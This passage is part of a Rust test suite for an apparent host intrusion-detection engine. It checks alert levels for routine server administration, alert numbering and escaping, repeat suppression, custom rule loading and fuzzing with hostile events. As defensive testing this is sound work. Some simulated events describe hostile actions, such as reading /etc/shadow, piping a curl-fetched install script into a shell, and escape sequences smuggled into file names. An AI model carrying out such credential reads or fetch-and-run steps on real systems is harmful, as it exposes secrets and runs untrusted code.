                wrong.push(format!("{slug}: twin {index} was told: {:?}", alerts[0].matched));
            }
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

fn titles(alerts: &[Alert]) -> Vec<&str> {
    alerts.iter().map(|alert| alert.rule.title.as_str()).collect()
}

#[test]
fn every_rule_and_detector_has_a_case() {
    let cased: BTreeSet<&str> = cases()
        .iter()
        .map(|(slug, attacks, twins)| {
            assert!(!attacks.is_empty() && !twins.is_empty(), "{slug}");
            *slug
        })
        .collect();
    let all: BTreeSet<&str> =
        pack().iter().map(|rule| rule.slug).chain(detectors().map(|info| info.slug)).collect();
    assert_eq!(cased, all);
}

/// What servers do all day may be noted; it may not be called high.
#[test]
fn everyday_work_raises_nothing_high() {
    use FileAction::{Attrib, Create, Write};
    let apt = || {
        run("/usr/bin/dpkg", "/usr/bin/dpkg --unpack x.deb").under("/usr/bin/apt-get", "apt-get install -y x")
    };
    let postinst = |exe: &str, line: &str| {
        run(exe, line).under("/usr/bin/dash", "/bin/sh /var/lib/dpkg/info/x.postinst configure")
    };
    let ansible = |exe: &str, line: &str| {
        run(exe, line).under("/usr/bin/python3.11", "python3 /root/.ansible/tmp/x/AnsiballZ_command.py")
    };
    let cron = |exe: &str, line: &str| {
        run(exe, line).under("/usr/sbin/cron", "/usr/sbin/CRON -f").stdio(Stdio::Pipe(1), Stdio::Pipe(2))
    };
    let events = [
        apt().exec(),
        apt().file(Create, "/etc/cron.d/x.dpkg-new"),
        apt().renames("/usr/lib/systemd/system/x.service.dpkg-new", "/usr/lib/systemd/system/x.service"),
        apt().mode(Attrib, "/usr/bin/ping", 0o104_755),
        apt().file(Write, "/etc/shadow-new"),
        postinst("/usr/sbin/useradd", "useradd --system x").exec(),
        postinst("/usr/sbin/useradd", "useradd --system x").renames("/etc/shadow+", "/etc/shadow"),
        postinst("/usr/bin/systemctl", "systemctl daemon-reload").exec(),
        postinst("/usr/bin/perl", "perl /usr/bin/deb-systemd-helper enable x.service")
            .file(Create, "/etc/systemd/system/multi-user.target.wants/x.service"),
        ansible("/usr/bin/dash", "/bin/sh -c uname -a").stdio(Stdio::Pipe(1), Stdio::Pipe(2)).exec(),
        ansible("/usr/bin/python3.11", "python3").file(Write, "/root/.ssh/authorized_keys"),
        ansible("/usr/bin/python3.11", "python3").file(Write, "/etc/sudoers.d/90-admins"),
        ansible("/usr/bin/python3.11", "python3").renames("/etc/.ansible_tmp", "/etc/passwd"),
        cron("/usr/bin/dash", "/bin/sh -c test -x /usr/sbin/anacron || run-parts /etc/cron.daily").exec(),
        cron("/usr/sbin/logrotate", "logrotate /etc/logrotate.conf")
            .renames("/var/log/syslog", "/var/log/syslog.1"),
        run("/usr/bin/bash", "-bash").under("/usr/sbin/sshd", "sshd: root@pts/0").exec(),
        run("/usr/bin/bash", "bash -c hostname")
            .under("/usr/sbin/sshd", "sshd: root@notty")
            .stdio(Stdio::Pipe(1), Stdio::Pipe(2))
            .exec(),
        run("/usr/bin/sudo", "sudo apt-get update").uid(1000, 0).exec(),
        run("/usr/bin/bash", "-bash").under("/usr/bin/sudo", "sudo -i").exec(),
        run("/usr/bin/gcc", "gcc -o /tmp/ccX.o").exec(),
        run("/tmp/go-build123/b001/x.test", "x.test").exec(),
        run("/usr/bin/bash", "bash /tmp/runner/job.sh").exec(),
        run("/usr/bin/curl", "curl -fsSL https://h/install.sh")
            .tgid(301)
            .stdio(Stdio::Tty, Stdio::Pipe(77))
            .exec(),
        run("/usr/bin/dash", "sh").tgid(302).stdio(Stdio::Pipe(77), Stdio::Tty).exec(),
        run("/usr/lib/systemd/systemd", "systemd").does(Body::BpfLoad {
            program_type: 8,
            name: b"sd".to_vec(),
            result: 4,
        }),
        run("/usr/lib/systemd/systemd-udevd", "udevd").does(Body::ModuleLoad {
            name: b"kvm".to_vec(),
            call: "finit_module",
            result: 0,
        }),
        run("/usr/bin/dockerd", "dockerd").mounts("overlay", "/var/lib/docker/overlay2/x/merged", "overlay"),
        run("/usr/bin/runc", "runc init").inside().mounts("proc", "/proc", "proc"),
        run("/usr/bin/runc", "runc init").inside().does(Body::Namespace(NamespaceActivity {
            call: "setns",
            flags: 0x2_0000,
            result: 0,
        })),
        run("/usr/bin/git", "git pull").connects("140.82.121.3:443", Outcome::Succeeded),
        run("/usr/bin/vim.basic", "vim /root/.bashrc").file(Write, "/root/.bashrc"),
        run("/usr/bin/python3.11", "python3 -c import socket; print(socket.gethostname())").exec(),
        run("/usr/bin/systemd-tmpfiles", "systemd-tmpfiles --create").mode(
            Attrib,
            "/tmp/.X11-unix",
            0o041_777,
        ),
    ];
    for alert in judged(&mut engine(), &events) {
        assert!(
            alert.level < Level::High,
            "{} on {}",
            alert.rule.title,
            watchfire_event::printable_argv(&alert.tree[0].process.argv)
        );
    }
}

#[test]
fn alerts_are_numbered_without_gaps_and_carry_tree_times_and_escaped_fields() {
    let mut engine = engine();
    let init = Arc::new(bare(1, "/sbin/init", "init"));
    let shell = Arc::new(bare(100, "/usr/bin/bash", "bash"));
    let lineage = |_: &Process| vec![Arc::clone(&shell), Arc::clone(&init), Arc::clone(&init)];
    let mut alerts = Vec::new();
    for tgid in 0..10 {
        let event =
            run("/tmp/\u{1b}[2Jx", "x \u{1b}]0;evil").tgid(500 + tgid).change(|p| p.image.links = 0).exec();
        engine.judge(&event, &lineage, || BootNanos(event.at.0 + 7), &mut |alert| alerts.push(alert));
    }
    assert_eq!(alerts.iter().map(|alert| alert.sequence).collect::<Vec<_>>(), (1..=20).collect::<Vec<u64>>());
    assert_eq!(alerts.iter().map(|alert| alert.id).collect::<BTreeSet<_>>().len(), 20);
    let alert = &alerts[0];
    assert_eq!(alert.tree.iter().map(|node| node.process.key.tgid).collect::<Vec<_>>(), [500, 100, 1]);
    assert_eq!((alert.times.judged.0 - alert.times.kernel.0, alert.times.booted), (7, UnixNanos(5)));
    for field in alerts.iter().flat_map(|alert| &alert.matched) {
        assert!(!field.value.chars().any(char::is_control), "{field:?}");
    }
    assert_eq!(engine.counts().alerts, 20);
}

#[test]
fn a_repeated_match_is_held_back_and_counted_and_a_disabled_rule_says_nothing() {
    let read = || run("/usr/bin/cat", "cat").file(FileAction::Open, "/etc/shadow");
    let mut later = read();
    later.at = BootNanos(later.at.0 + 61_000_000_000);
    let mut one = engine();
    let alerts = judged(&mut one, &[read(), read(), read(), later]);
    assert_eq!(alerts.len(), 2);
    let last = alerts[1].matched.last().unwrap();
    assert_eq!((last.name.as_str(), last.value.as_str()), ("alert.repeated", "2"));
    assert_eq!(one.counts().suppressed, 2);

    let disabled = vec![rule_id("shadow_read").unwrap().to_owned(), "port_scan".to_owned()];
    let settings = DetectSettings { disabled, ..DetectSettings::default() };
    let mut silent = Engine::new(load_rules(&settings).rules, &settings, StreamId::default(), UnixNanos(0));
    assert!(judged(&mut silent, &[read()]).is_empty());
    assert_eq!(silent.counts().disabled, 1);
}

#[test]
fn a_users_directory_is_loaded_beside_the_pack_and_cannot_take_its_ids() {
    let dir = tempfile::tempdir().unwrap();
    let own = "title: Mine\nid: 99999999-0000-4000-8000-000000000000\nlogsource: {category: process_creation}\ndetection:\n    s: {process.name: frobnicate}\n    condition: s\n";
    std::fs::write(dir.path().join("mine.yml"), own).unwrap();
    let thief = own.replace("99999999-0000-4000-8000-000000000000", rule_id("shadow_read").unwrap());
    std::fs::write(dir.path().join("thief.yml"), thief).unwrap();
    let settings = DetectSettings {
        dirs: vec![dir.path().to_owned(), dir.path().join("absent")],
        ..DetectSettings::default()
    };
    let loaded = load_rules(&settings);
    assert_eq!(loaded.faults.len(), 2, "{:?}", loaded.faults);
    let mut engine = Engine::new(loaded.rules, &settings, StreamId::default(), UnixNanos(0));
    let alerts = judged(&mut engine, &[run("/usr/bin/frobnicate", "frobnicate").exec()]);
    assert_eq!(titles(&alerts), ["Mine"]);
    assert_eq!(
        judged(&mut engine, &[run("/usr/bin/cat", "cat").file(FileAction::Open, "/etc/shadow")]).len(),
        1
    );
}

/// Any event, of bytes an attacker chose.
fn hostile() -> impl Strategy<Value = Event> {
    let bytes = || prop::collection::vec(prop_oneof![any::<u8>(), Just(b'/'), Just(0), Just(b'-')], 0..40);
    let exe = prop_oneof![
        bytes(),
        Just(b"/usr/bin/bash".to_vec()),
        Just(b"/bin/busybox".to_vec()),
        Just(b"/usr/bin/sudo".to_vec()),
        Just(b"/usr/bin/curl".to_vec()),
        Just(b"/usr/bin/base64".to_vec()),
        Just(b"/tmp/x".to_vec()),
    ];
    let stdio = prop_oneof![Just(Stdio::Tty), (0u64..3).prop_map(Stdio::Pipe), Just(inet())];
    let made = (exe, bytes(), bytes(), 1u32..6, 0u32..6, stdio.clone(), stdio, 0u64..2_000);
    (made, 0usize..12, bytes(), any::<i32>()).prop_map(
        |((exe, argv, comm, tgid, parent, stdin, stdout, at), kind, name, result)| {
            let mut process = bare(tgid, "x", "x");
            process.parent = Some(key(parent));
            process.filename = name.clone();
            (process.exe, process.argv, process.comm) = (exe, argv, comm);
            process.stdio = [stdin, stdout, Stdio::Unknown];
            let made = Made { process, parent: None };
            let path = String::from_utf8_lossy(&name).into_owned();
            let mut event = match kind {
                0..4 => made.exec(),
                4 => made.connects("10.0.0.9:1", Outcome::Failed(result)),
                5 => made.connects("[::1]:1", Outcome::Succeeded),
                6 => made.mode(FileAction::Write, "/tmp/x", 0o777),
                7 => made.renames(&path, "/tmp/x"),
                8 => made.mounts(&path, &path, &path),
                9 => made.does(Body::ModuleLoad { name, call: "init_module", result }),
                10 => made.logs_in("10.0.0.9:1", result > 0),
                _ => made.does(Body::Memfd { name }),
            };
            event.at = BootNanos(at * 1_000_000_000);
            event
        },
    )
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 24, failure_persistence: None, ..ProptestConfig::default() })]

    /// Nothing an event may hold stops the engine, in whatever order of time; what comes out is numbered and bounded.
    #[test]
    fn no_sequence_of_hostile_events_stops_the_engine(events in prop::collection::vec(hostile(), 1..120)) {
        let mut engine = engine();
        let alerts = judged(&mut engine, &events);
        for (index, alert) in alerts.iter().enumerate() {
            prop_assert_eq!(alert.sequence, index as u64 + 1);
            prop_assert!(alert.matched.len() <= 20 && !alert.tree.is_empty());
            for field in &alert.matched {
                prop_assert!(field.value.len() <= 2048 && !field.value.chars().any(char::is_control), "{:?}", field);
            }
        }
        prop_assert_eq!(engine.counts().panics, 0);
        prop_assert_eq!(engine.counts().judged, events.len() as u64);
    }
}
